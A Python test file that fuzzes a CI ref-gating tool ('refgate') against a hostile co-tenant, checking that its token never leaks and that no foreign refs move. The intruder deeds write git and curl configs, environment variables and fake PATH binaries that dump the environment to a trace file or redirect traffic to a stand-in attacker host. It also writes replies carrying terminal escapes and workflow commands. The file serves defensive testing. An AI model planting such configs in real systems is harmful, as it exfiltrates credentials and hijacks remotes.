"""A program of somebody else between gate and finish, with all that a job's user can do.

Each variant is a few deeds, drawn from a table, against a job whose heartbeat process lives, then a
`finish` with or without a token. Whatever was done: no ref moves but the job's own, the token is
seen nowhere but at its remote, and `finish` comes to an end of its own.
"""

import contextlib
import fcntl
import json
import os
import random
import shutil
import signal
import socket
import stat
import subprocess
import threading
import time
import unittest

import payloads
import runner
from catcher import catcher
from gate_case import TOKEN, GateCase, await_that, heartbeat_process
from heartbeat_end_test import alive, answering

VARIANTS = 200 if runner.FULL else 24
FULL_DISK = "trap '' XFSZ; ulimit -f 0; exec \"$@\""
REPLIES = (b'{"result":"ended","text":"done\\u001b[2J\\n::set-output name=a::b","ref":"refs/heads/main","claim_id":"x"}\n',
           b'{"result":"already","text":"","ref":"refs/refgate/claims/a/..","claim_id":""}\n',
           b'{"result":"not_ours","claim_id":"y","ref":"@VICTIM@","text":"x"}\n', b"{}\n", b"", b"\xff" * 70_000)


class Deeds:
    """What the intruder does; each method is one deed, called before `finish`."""

    def __init__(self, case, job, process, rng):
        self.case, self.job, self.process, self.rng = case, job, process, rng
        self.folder = job.folder / "temp" / "refgate"
        self.environment, self.wrapper, self.stays = {}, [], threading.Event()
        self.threads, self.open = [], []
        # A number may be another process's by the time that it is used.
        self.handle = os.pidfd_open(process)

    def notes(self):
        return sorted(self.folder.glob("*.json")) if self.folder.is_dir() else []

    def end_process(self):
        try:
            signal.pidfd_send_signal(self.handle, signal.SIGKILL)
        except ProcessLookupError:
            pass

    def kill(self):
        self.end_process()
        await_that(lambda: not alive(self.process), what="the end of the process")

    def kill_and_answer(self):
        name = self.address()
        self.kill()
        reply = self.rng.choice(REPLIES).replace(b"@VICTIM@", self.case.victim.encode())
        if name:
            self.open.append(answering(name, reply))
            self.open[-1].__enter__()

    def address(self):
        """The name at which the process listens, by its socket's number."""
        numbers = set()
        for file in os.scandir(f"/proc/{self.process}/fd") if alive(self.process) else ():
            try:
                numbers.add(os.readlink(file.path))
            except OSError:
                continue
        with open("/proc/net/unix", encoding="utf-8") as listening:
            lines = listening.readlines()
        for words in map(str.split, lines):
            if len(words) == 8 and words[7].startswith("@refgate-") and f"socket:[{words[6]}]" in numbers:
                return "\0" + words[7][1:]
        return None

    def ask(self):
        name = self.address()
        line = self.rng.choice((b'{"ask":"end","status":"success","within_ms":9223372036854775807}\n',
                                b'{"ask":"end","status":"success","within_ms":5000}\n', b"x" * 100_000, b"[]\n",
                                b'{"ask":"token"}\n'))
        if name:
            with socket.socket(socket.AF_UNIX) as asking:
                asking.settimeout(10)
                try:
                    asking.connect(name)
                    asking.sendall(line)
                    self.case.assertNotIn(TOKEN.encode(), asking.recv(10_000))
                except OSError:
                    pass

    def fill_the_disk(self):
        self.wrapper = ["sh", "-c", FULL_DISK, "sh"]

    def stay_behind(self):
        """Goes on while `finish` runs, and until the variant is over."""
        def rewrite():
            rng = random.Random(1)
            while not self.stays.is_set():
                for path in self.notes():
                    try:
                        self.rewrite(path, rng)
                    except OSError:
                        pass
                time.sleep(0.001)
        self.threads.append(threading.Thread(target=rewrite, daemon=True))
        self.threads[-1].start()

    def rewrite(self, path, rng):
        about = path.lstat()
        if not stat.S_ISREG(about.st_mode) or about.st_size > 1 << 20:
            return  # what another deed has put there
        try:
            note = json.loads(path.read_text(encoding="utf-8"))
        except ValueError:
            return
        if not isinstance(note, dict) or not note:
            return
        field = rng.choice(sorted(note))
        note[field] = rng.choice((None, "", 0, -1, 1 << 70, True, [], {}, "refs/heads/main", self.case.victim,
                                  self.case.victim_id, self.case.before["refs/heads/main"], "x" * 5000, [[[]]] * 99))
        path.write_text(json.dumps(note), encoding="utf-8")

    def edit(self):
        for path in self.notes():
            for _ in range(self.rng.randint(1, 3)):
                self.rewrite(path, self.rng)

    def take_anothers(self):
        """The whole memory of another job, with this one's names or its own."""
        for path in (self.case.other.folder / "temp" / "refgate").glob("*.json"):
            text = path.read_text(encoding="utf-8")
            if self.rng.random() < .5:
                text = text.replace(self.case.other.run, self.job.run)
            (self.folder if self.folder.is_dir() else self.job.folder).joinpath(path.name).write_text(text, encoding="utf-8")

    def empty(self):
        shutil.rmtree(self.folder, ignore_errors=True)

    def put_in_its_place(self):
        for path in self.notes():
            path.unlink(missing_ok=True)
            kind = self.rng.choice(("pipe", "link", "device", "folder", "huge"))
            if kind == "pipe":
                os.mkfifo(path)
            elif kind == "link":
                path.symlink_to(self.case.precious)
            elif kind == "device":
                path.symlink_to("/dev/zero")
            elif kind == "folder":
                path.mkdir()
            else:
                with open(path, "wb") as file:
                    file.truncate(1 << 33)

    def replace_the_folder(self):
        shutil.rmtree(self.folder, ignore_errors=True)
        if self.rng.random() < .5:
            elsewhere = self.job.folder / "elsewhere"
            elsewhere.mkdir(exist_ok=True)
            self.folder.symlink_to(elsewhere)
        else:
            self.folder.write_text("x", encoding="utf-8")

    def crowd_the_folder(self):
        notes = [path for path in self.notes() if path.is_file() and not path.is_symlink()]
        if notes:
            source = notes[0]
            for number in range(2000):
                os.link(source, self.folder / f"claim-{number:032x}.json")

    def lock(self):
        for path in self.folder.glob("*.lock") if self.folder.is_dir() else ():
            self.open.append(open(path, "a", encoding="utf-8"))
            fcntl.flock(self.open[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)

    def set_variables(self):
        evil = self.case.evil.url
        for name, value in (("REFGATE_REMOTE", f"{evil}/x.git"), ("REFGATE_NAMESPACE", "heads"),
                            ("REFGATE_CLAIM_ID", self.case.victim_id), ("REFGATE_RUN_ID", self.case.other.run),
                            ("REFGATE_STATE_DIR", str(self.case.other.folder / "temp" / "refgate")),
                            ("REFGATE_JOB", "other"), ("REFGATE_CONFIG", str(self.job.folder / "evil.yml")),
                            ("REFGATE_SHARE", "victim"), ("REFGATE_ON_ERROR", "skip"), ("http_proxy", evil),
                            ("https_proxy", evil), ("ALL_PROXY", evil), ("GIT_CONFIG_COUNT", "1"),
                            ("GIT_CONFIG_KEY_0", f"url.{evil}/.insteadOf"), ("GIT_CONFIG_VALUE_0", self.case.remote.url),
                            ("GIT_TRACE_CURL", str(self.case.traces)), ("GIT_SSH_COMMAND", f"env >> {self.case.traces}; false"),
                            ("SSLKEYLOGFILE", str(self.case.traces)), ("CURL_HOME", str(self.job.folder)),
                            ("XDG_CONFIG_HOME", str(self.job.folder)), ("TMPDIR", str(self.job.folder))):
            if self.rng.random() < .4:
                self.environment[name] = value
        (self.job.folder / "evil.yml").write_text(f"remote: {evil}/x.git\nnamespace: heads\n", encoding="utf-8")

    def write_home(self):
        evil = self.case.evil.url
        (self.job.folder / ".gitconfig").write_text(
            f'[url "{evil}/"]\n\tinsteadOf = {self.case.remote.url.rsplit("/", 1)[0]}/\n[http]\n\tproxy = {evil}\n'
            f'\textraHeader = "X: y"\n[credential]\n\thelper = "!env >> {self.case.traces}; :"\n', encoding="utf-8")
        (self.job.folder / ".curlrc").write_text(f'proxy = "{evil}"\ntrace = "{self.case.traces}"\n', encoding="utf-8")
        (self.job.folder / ".netrc").write_text("default login x password y\n", encoding="utf-8")
        self.write_repository()

    def write_repository(self):
        subprocess.run(["git", "init", "-q", self.job.folder], check=True)
        with open(self.job.folder / ".git" / "config", "a", encoding="utf-8") as file:
            file.write(f'[remote "origin"]\n\turl = {self.case.evil.url}/x.git\n[core]\n\tfsmonitor = "env >> '
                       f'{self.case.traces}"\n\tsshCommand = "env >> {self.case.traces}; false"\n')

    def put_into_path(self):
        folder = self.job.folder / "bin"
        folder.mkdir(exist_ok=True)
        for name in ("git", "curl", "ssh", "sh", "bash", "env", "refgate"):
            (folder / name).write_text(f"#!/bin/sh\n{{ echo {name}; /usr/bin/env; cat; }} >> {self.case.traces}\nexit 1\n",
                                       encoding="utf-8")
            (folder / name).chmod(0o755)
        self.environment["PATH"] = f"{folder}:{os.environ['PATH']}"

    def over(self):
        self.stays.set()
        for thread in self.threads:
            thread.join(10)
        for thing in self.open:
            thing.__exit__(None, None, None) if hasattr(thing, "reply") else thing.close()
        self.end_process()
        os.close(self.handle)

    ALL = (kill, kill_and_answer, ask, fill_the_disk, stay_behind, edit, take_anothers, empty, put_in_its_place,
           replace_the_folder, crowd_the_folder, lock, set_variables, write_home, put_into_path)


class Intruder(GateCase):
    commits = 2

    def setUp(self):
        super().setUp()
        self.traces = self.folder / "traces"
        self.precious = self.folder / "precious" / "file"
        self.precious.parent.mkdir()
        self.precious.write_text("kept\n", encoding="utf-8")
        self.other, answer = self.gate("--share", "victim")
        self.victim_id = answer.claim_id
        (self.victim,) = self.remote.claims()
        self.before = self.remote.all_refs()

    def begin(self, number):
        job = self.job(payload=payloads.push(payloads.commit(f"variant {number}")))
        before = set(self.remote.refs("refs/refgate/claims"))
        self.assert_runs(job.call("gate", "--heartbeat", "--interval", "500ms", "--lease", "60s", "--skew", "1s"), "first")
        (own,) = set(self.remote.refs("refs/refgate/claims")) - before
        return job, own, heartbeat_process(job)

    def finish(self, job, deeds, token):
        """As a step calls it, in the environment that earlier steps have left."""
        words = ["finish", "--deadline", "10s", "--remote", self.remote.url]
        job.calls += 1
        environment = {**job.environment, **deeds.environment, "REFGATE_TOKEN": token,
                       "GITHUB_OUTPUT": str(job.folder / f"output-{job.calls}")}
        shell = [shutil.which(word) if word == "sh" else word for word in deeds.wrapper[:1]] + deeds.wrapper[1:]
        return subprocess.run([*shell, runner.BINARY, *words], env=environment, cwd=job.folder, capture_output=True,
                              stdin=subprocess.DEVNULL, timeout=90, check=False)

    def without_outbox(self, version):
        """Of a claim; its first beat lets a heartbeat process publish what others left in theirs."""
        if version is None or self.remote.git("cat-file", "-t", version).strip() != "commit":
            return version
        if not self.remote.git("ls-tree", "--name-only", version, "claim.json"):
            return version
        return {**json.loads(self.remote.git("show", f"{version}:claim.json")), "outbox": []}

    def test_whatever_is_done_in_between(self):
        rng = random.Random(11)
        # Each deed alone first, then several together.
        table = [[deed] for deed in Deeds.ALL]
        with catcher() as self.evil:
            for number in range(VARIANTS):
                chosen = table[number] if number < len(table) else rng.sample(Deeds.ALL, rng.randint(2, 4))
                names = [deed.__name__ for deed in chosen]
                with self.subTest(number=number, deeds=names):
                    self.one_variant(number, chosen, rng)
        self.assertEqual(self.evil.holds(TOKEN), [])

    def one_variant(self, number, chosen, rng):
        job, own, process = self.begin(number)
        before = self.remote.all_refs()
        deeds = Deeds(self, job, process, rng)
        try:
            for deed in chosen:
                # The process writes there meanwhile, so that a deed may fail.
                with contextlib.suppress(OSError):
                    deed(deeds)
            done = self.finish(job, deeds, TOKEN if rng.random() < .5 else "")
        finally:
            deeds.over()
        text = (done.stdout + done.stderr).decode()
        self.assertIn(done.returncode, (0, 1, 2, 3), text)
        self.assertNotIn("\x1b", text)
        self.assertNotIn(TOKEN, text)
        now = self.remote.all_refs()
        moved = {ref for ref in now.keys() | before.keys() if now.get(ref) != before.get(ref)}
        strange = {ref for ref in moved if ref != own and not ref.startswith("refs/notes/refgate/")
                   and self.without_outbox(before.get(ref)) != self.without_outbox(now.get(ref))}
        self.assertEqual(strange, set(), text)
        self.assertIn(json.loads(self.remote.git("show", f"{own}:claim.json"))["state"], ("active", "ended"), text)
        for line in self.remote.notes():
            self.assertNotEqual((line["kind"], line["run_id"]), ("end", self.other.run), text)
        self.assertEqual(self.evil.holds(TOKEN), [], text)
        if self.traces.exists():
            self.assertNotIn(TOKEN.encode(), self.traces.read_bytes(), text)
        self.assertEqual(self.precious.read_text(encoding="utf-8"), "kept\n")
        for line in text.splitlines():
            if line.startswith("::"):
                self.assertRegex(line, r"^::(error|warning|notice) title=refgate[^:]*::")


if __name__ == "__main__":
    unittest.main()
